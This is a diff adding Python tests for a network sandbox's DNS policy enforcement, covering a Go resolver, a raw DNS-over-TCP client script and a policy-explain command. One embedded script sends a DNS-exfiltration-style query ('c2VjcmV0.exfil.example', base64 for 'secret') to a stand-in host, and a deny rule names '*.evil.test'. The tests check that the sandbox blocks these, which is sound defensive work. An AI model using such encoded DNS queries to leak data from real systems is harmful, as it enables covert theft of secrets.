@@ -9,7 +9,9 @@ import errno
 import json
 import os
 import random
+import shutil
 import socket
+import subprocess
 import struct
 import sys
 import threading
@@ -333,6 +335,30 @@ def audit_mode_resolves_and_records_would_deny():
 
 
 @test
+def go_resolver_uses_tcp_from_the_view():
+    go = shutil.which("go")
+    if not go:
+        skip("go is not installed")
+    w = World()
+    exe = os.path.join(w.dir, "resolve")
+    env = dict(os.environ, GOCACHE=os.path.join(w.dir, "gocache"),
+               GOPATH=os.path.join(w.dir, "gopath"), GO111MODULE="off", CGO_ENABLED="0")
+    here = os.path.dirname(os.path.abspath(__file__))
+    b = subprocess.run([go, "build", "-o", exe, os.path.join(here, "netprogs", "resolve.go")],
+                       capture_output=True, text=True, env=env, timeout=300)
+    if b.returncode != 0:
+        skip("go build failed: " + b.stderr[-300:])
+    pol = w.policy([f"allow connect tcp pkg.example.test:{w.port}", f"allow read {exe}",
+                    f"allow exec {exe}"])
+    p, _ = w.run(pol, exe, "pkg.example.test", str(w.port))
+    assert f"connected {w.net}.2" in p.stdout, (p.stdout, p.stderr)
+    assert w.l2.count == 1
+    p, recs = w.run(pol, exe, "other.example.test", str(w.port))
+    assert "unresolved true" in p.stdout, (p.stdout, p.stderr)
+    assert dns_denials(recs, "other.example.test") and "other.example.test" not in w.ns.asked
+
+
+@test
 def etc_hosts_names_count_as_resolved():
     pairs = []
     with open("/etc/hosts") as f:
@@ -358,6 +384,60 @@ def etc_hosts_names_count_as_resolved():
     p, _ = w.run(pol, PY, "-c", CONNECT, name, str(lst.port))
     assert f"refused {addr} {errno.ECONNREFUSED}" in p.stdout, p.stdout
     assert lst.count == 1
+
+
+RAW_TCP = r'''
+import socket, struct, sys
+s = socket.create_connection((sys.argv[1], 53), timeout=10)
+def ask(msg):
+    s.sendall(struct.pack(">H", len(msg)) + msg)
+    h = s.recv(2)
+    if len(h) < 2:
+        return None
+    n = struct.unpack(">H", h)[0]
+    r = b""
+    while len(r) < n:
+        r += s.recv(n - len(r))
+    return r
+def query(name):
+    q = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + bytes(1)
+    return struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + q + struct.pack(">HH", 1, 1)
+r = ask(query("c2VjcmV0.exfil.example"))
+print("rcode", r[3] & 15, "id", struct.unpack(">H", r[:2])[0] == 0x4242)
+r = ask(query("PKG.example.test"))
+print("rcode", r[3] & 15, "answers", struct.unpack(">H", r[6:8])[0])
+print("garbage", ask(b"secret-marker-" * 8))
+'''
+
+
+@test
+def a_program_speaking_dns_itself_gets_the_same_answers():
+    w = World()
+    pol = w.policy([f"allow connect tcp pkg.example.test:{w.port}"], base="default")
+    p, recs = w.run(pol, PY, "-c", RAW_TCP, f"{w.net}.1")
+    lines = p.stdout.splitlines()
+    assert lines[:3] == ["rcode 3 id True", "rcode 0 answers 1", "garbage None"], (p.stdout,
+                                                                                   p.stderr)
+    assert dns_denials(recs, "c2vjcmv0.exfil.example"), recs
+    assert any(r["object"] == "dns (malformed query)" and r["verdict"] == "deny"
+               for r in recs), recs
+    assert w.ns.asked == ["pkg.example.test"], w.ns.asked  # nothing else left litebox
+
+
+@test
+def policy_show_explains_a_host_name():
+    d = lbtest.policy_workdir(["allow connect tcp pypi.org:443", "deny connect tcp *.evil.test:*",
+                               "allow connect tcp *:8443"])
+    p = litebox("policy", "show", "p.policy", "--explain", "tcp PyPI.org:443",
+                "tcp x.evil.test:8443", "tcp other.test:443", cwd=d, check=0)
+    out = p.stdout
+    assert "tcp pypi.org:443 (an address the name resolved to)" in out, out
+    assert "dns     resolved by p.policy:3" in out, out
+    assert "'allow connect tcp pypi.org:443' (p.policy:3)" in out, out
+    assert "dns     deny (answered NXDOMAIN) by p.policy:4" in out, out
+    assert "dns     resolved by p.policy:5" in out, out  # `*` as host: every name
+    p = litebox("policy", "check", "p.policy", cwd=d)
+    assert p.returncode == 0, p.stdout + p.stderr
 
 
 if __name__ == "__main__":
